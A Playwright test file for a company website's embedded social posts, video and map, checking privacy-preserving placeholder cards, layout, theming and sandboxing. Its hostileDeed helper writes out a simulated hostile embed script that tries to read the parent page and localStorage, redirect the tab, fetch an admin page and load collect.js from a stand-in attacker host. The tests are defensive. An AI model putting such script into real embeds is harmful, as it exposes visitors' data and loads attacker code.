import type { Page } from '@playwright/test'
import { journey } from '#app/features/embeds/journey.ts'
import { company } from '#app/shared/company.ts'
import { formatDayAndMonth } from '#app/shared/dates.ts'
import { expect, test } from './support/fixtures.ts'

const ALWAYS = 'Always load posts, video and map'

test('HOME-12, HOME-13, HOME-14: the grid holds six posts and one video as cards of our own, until one is asked for', async ({
  page,
}) => {
  const outside = await standInForNetworks(page)
  await page.goto('/')
  await expectJourneyCards(page)
  expect(outside.asked).toEqual([])
  await page.getByRole('link', { name: /^Play video/ }).click()
  const video = page.frameLocator('iframe[title^="TikTok:"]').frameLocator('iframe').frameLocator('iframe')
  await expect(video.getByText('Drawn by TikTok')).toBeVisible()
  expect(outside.asked.splice(0)[0]).toBe('https://www.tiktok.com/embed.js')

  await page.goto('/about')
  await expectJourneyCards(page)
  expect(outside.asked).toEqual([])
  await page.getByRole('link', { name: /^Show post \(Backup drill/ }).click()
  const post = page
    .frameLocator('iframe[title^="X: Backup drill"]')
    .frameLocator('iframe')
    .frameLocator('iframe')
  await expect(post.getByText('Drawn by X')).toBeVisible()
  expect(outside.asked[0]).toBe('https://platform.twitter.com/widgets.js')
  await page.getByRole('link', { name: /^Hide post/ }).click()
  await expect(page.locator('iframe[title^="X:"]')).toHaveCount(0)
  await expect(page.getByRole('link', { name: /^Show post/ })).toHaveCount(6)
})

test('HOME-13: four columns hold two even rows of posts and the video, which is as tall as both', async ({
  page,
}) => {
  await page.setViewportSize({ width: 1280, height: 800 })
  await page.goto('/about')
  const cards = page.getByRole('region', { name: 'Follow Our Journey' }).getByRole('listitem')
  const boxes = await cards.evaluateAll((items) =>
    items.map((item) => {
      const { left, top, bottom, width, height } = item.getBoundingClientRect()
      return { left, top, bottom, width: Math.round(width), height: Math.round(height) }
    }),
  )
  const posts = boxes.slice(0, 6)
  const [video] = boxes.slice(6)
  expect(new Set(posts.map(({ left }) => left)).size).toBe(3)
  expect(new Set(posts.map(({ top }) => top)).size).toBe(2)
  expect(new Set(posts.map(({ height }) => height)).size).toBe(1)
  expect(video?.top).toBe(posts[0]?.top)
  expect(video?.bottom).toBe(posts[5]?.bottom)
  expect(video?.left).toBeGreaterThan(posts[2]?.left ?? 0)
})

test('HOME-14: a network’s script reaches neither our page nor another host', async ({
  page,
  server,
  faults,
}) => {
  faults.expect(/elsewhere\.example/)
  faults.expect(/admin\/dashboard/)
  faults.expect(/Unsafe attempt to initiate navigation/)
  const outside = await standInForNetworks(page, hostileDeed(`${server.origin}/admin/dashboard`))
  const heard: string[] = []
  page.on('console', (message) => heard.push(message.text()))
  await page.goto('/about')
  await page.getByRole('link', { name: /^Show post \(Backup drill/ }).click()
  for (const line of [
    'the script: null',
    'our page: SecurityError',
    'our embed: SecurityError',
    'our storage: SecurityError',
    'our address: refused',
    'its frame: https://platform.twitter.com',
  ]) {
    await expect.poll(() => heard).toContain(line)
  }
  // Browsers let a frame navigate the tab only after a user gesture inside it.
  await page
    .frameLocator('iframe[title^="X:"]')
    .frameLocator('iframe')
    .getByRole('button', { name: 'Take me there' })
    .press('Enter')
  await expect.poll(() => heard).toContain('our tab: SecurityError')
  expect(page.url()).toBe(`${server.origin}/about`)
  expect(outside.asked.filter((url) => url.includes('elsewhere'))).toEqual([])
})

test('HOME-14: without the network’s answer its caption and a link stay', async ({ page, faults }) => {
  faults.expect(/Failed to load resource/)
  await page.route('https://**', (route) => route.abort())
  await page.goto('/about')
  const failed = page.waitForEvent('requestfailed')
  await page.getByRole('link', { name: /^Show post \(Backup drill/ }).click()
  await failed
  const frame = page.frameLocator('iframe[title^="X:"]').frameLocator('iframe')
  await expect(frame.getByText('Backup drill')).toBeVisible()
  await expect(frame.getByRole('link', { name: 'Open on X' })).toHaveAttribute('href', /^https:\/\/x\.com\//)
})

test('CONTACT-03, CONTACT-04: the map is a card of our own until its link is followed, which adds no step to the way back', async ({
  page,
}) => {
  const outside = await standInForNetworks(page)
  const frame = page.locator('iframe[title="Our Location"]')
  const card = page.frameLocator('iframe[title="Our Location"]')
  // Further pages hold the same frame; that its card is shown there is a fact of the first visit.
  for (const path of ['/', '/about']) {
    const html = await (await page.request.get(path)).text()
    expect(html.match(/<iframe[^>]* title="Our Location"[^>]*>/g), path).toEqual([
      expect.stringContaining(' src="/embeds/map"'),
    ])
  }
  for (const path of ['/contact', '/services']) {
    await page.goto(path)
    await expect(frame).toHaveCount(1)
    await frame.scrollIntoViewIfNeeded()
    await expect(card.getByRole('img', { name: `streets around ${company.address.building}` })).toBeVisible()
    expect(outside.asked).toEqual([])
    await card.getByRole('link', { name: 'Show map' }).click()
    await expect(card.frameLocator('iframe').getByText('Drawn by OpenStreetMap')).toBeVisible()
    expect(outside.asked.splice(0)).toEqual([
      expect.stringMatching(
        /^https:\/\/www\.openstreetmap\.org\/export\/embed\.html\?.*marker=-1\.94%2C30\.09/,
      ),
    ])
  }

  await page
    .getByRole('navigation', { name: 'Main' })
    .getByRole('link')
    .filter({ hasText: 'Contact' })
    .click()
  await expect(page.getByRole('heading', { level: 1, name: 'Contact' })).toBeVisible()
  await frame.scrollIntoViewIfNeeded()
  await card.getByRole('link', { name: 'Show map' }).click()
  await expect(card.frameLocator('iframe').getByText('Drawn by OpenStreetMap')).toBeVisible()
  await page.goBack()
  await expect(page).toHaveURL('/services')
})

test('CONTACT-03: the card in the frame follows the theme of the page around it', async ({ newPage }) => {
  const page = await newPage({ colorScheme: 'light' })
  await page.goto('/contact')
  await page.locator('iframe[title="Our Location"]').scrollIntoViewIfNeeded()
  const card = page.frameLocator('iframe[title="Our Location"]').locator('body')
  await expect(card).toHaveCSS('background-color', 'rgb(255, 255, 255)')
  await page.getByRole('button', { name: 'Switch to dark theme' }).click()
  await expect(card).toHaveCSS('background-color', 'rgb(27, 24, 21)')
  await page.reload()
  await page.locator('iframe[title="Our Location"]').scrollIntoViewIfNeeded()
  await expect(card).toHaveCSS('background-color', 'rgb(27, 24, 21)')
})

test.describe(() => {
  // In a context of its own, whose further tabs have no scripts either.
  test.use({ isFirstVisit: true })

  test('HOME-13, CONTACT-04: without JavaScript a post opens in a tab of its own, and the map loads', async ({
    newPage,
  }) => {
    const page = await newPage({ javaScriptEnabled: false })
    await page.goto('/about')
    const opened = page.waitForEvent('popup')
    await page.getByRole('link', { name: /^Show post \(Backup drill/ }).click()
    const post = await opened
    await expect(post).toHaveURL('/embeds/restore-drill')
    await post.getByRole('link', { name: 'Show post' }).click()
    await expect(post.frameLocator('iframe').getByText('Backup drill')).toBeVisible()
    await post.close()

    await standInForNetworks(page)
    await page.goto('/contact')
    await page.locator('iframe[title="Our Location"]').scrollIntoViewIfNeeded()
    const card = page.frameLocator('iframe[title="Our Location"]')
    await card.getByRole('link', { name: 'Show map' }).click()
    await expect(card.frameLocator('iframe').getByText('Drawn by OpenStreetMap')).toBeVisible()
    await expect(page.getByLabel(ALWAYS)).toBeHidden()
  })
})

test('HOME-14, CONTACT-04: a visitor who chose always sees posts, video and map at once', async ({
  page,
}) => {
  const outside = await standInForNetworks(page)
  await page.goto('/about')
  await page.getByLabel(ALWAYS).first().click()
  await expect(page.locator('iframe[title^="X:"]')).toHaveCount(6)
  await expect(page.getByLabel(ALWAYS).last()).toBeChecked()

  await page.goto('/contact')
  const frame = page.locator('iframe[title="Our Location"]')
  await expect(frame).toHaveAttribute('src', '/embeds/map/show')
  await frame.scrollIntoViewIfNeeded()
  const map = page.frameLocator('iframe[title="Our Location"]').frameLocator('iframe')
  await expect(map.getByText('Drawn by OpenStreetMap')).toBeVisible()

  await page.getByLabel(ALWAYS).uncheck()
  await expect(frame).toHaveAttribute('src', '/embeds/map')
  await page.reload()
  outside.asked.length = 0
  await expect(page.getByLabel(ALWAYS)).not.toBeChecked()
  await page.goto('/about')
  await expect(page.getByRole('link', { name: /^Show post/ })).toHaveCount(6)
  expect(outside.asked).toEqual([])
})

async function expectJourneyCards(page: Page): Promise<void> {
  const grid = page.getByRole('region', { name: 'Follow Our Journey' })
  await expect(grid.getByRole('listitem')).toHaveCount(7)
  await expect(grid.getByRole('link', { name: /^Show post/ })).toHaveCount(6)
  await expect(grid.getByRole('link', { name: /^Play video/ })).toHaveCount(1)
  for (const item of journey) {
    const card = grid.getByRole('listitem').filter({ hasText: item.caption })
    await expect(card.getByText(formatDayAndMonth(item.date), { exact: true })).toBeVisible()
    const link = card.getByRole('link', { name: `Open on ${item.network}` })
    await expect(link).toHaveAttribute('href', item.url)
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer')
  }
}

/** Answers in place of the networks and the map, and records the requests. */
async function standInForNetworks(page: Page, deed = ''): Promise<{ asked: string[] }> {
  const asked: string[] = []
  await page.context().route(/^https:\/\//, async (route) => {
    const url = route.request().url()
    asked.push(url)
    if (url.endsWith('.js')) {
      const frame = url.includes('tiktok')
        ? 'https://www.tiktok.com/frame?TikTok'
        : 'https://platform.twitter.com/frame?X'
      return route.fulfill({ contentType: 'text/javascript', body: deed + drawFrame(frame) })
    }
    const name = url.includes('openstreetmap') ? 'OpenStreetMap' : new URL(url).search.slice(1)
    const body = `<p>Drawn by ${name}</p><script>console.log('its frame: ' + origin)</script>`
    return route.fulfill({ contentType: 'text/html', body })
  })
  return { asked }
}

/** Like an embed script: replaces our text by a frame of its network. */
function drawFrame(src: string): string {
  return `document.querySelector('blockquote').replaceWith(
    Object.assign(document.createElement('iframe'), { src: '${src}' }))`
}

/** What a hostile embed script would try as well. */
function hostileDeed(ourAddress: string): string {
  return `
    function attempt(name, act) {
      try { act(); console.log(name + ': reached') } catch (error) { console.log(name + ': ' + error.name) }
    }
    console.log('the script: ' + origin)
    attempt('our page', () => top.document.title)
    attempt('our embed', () => parent.document.title)
    attempt('our storage', () => localStorage.length)
    document.body.append(Object.assign(document.createElement('button'), {
      textContent: 'Take me there',
      onclick: () => attempt('our tab', () => { top.location = 'https://elsewhere.example/' }) }))
    fetch('${ourAddress}').then(
      () => console.log('our address: reached'), () => console.log('our address: refused'))
    document.body.append(
      Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/collect.js' }));`
}
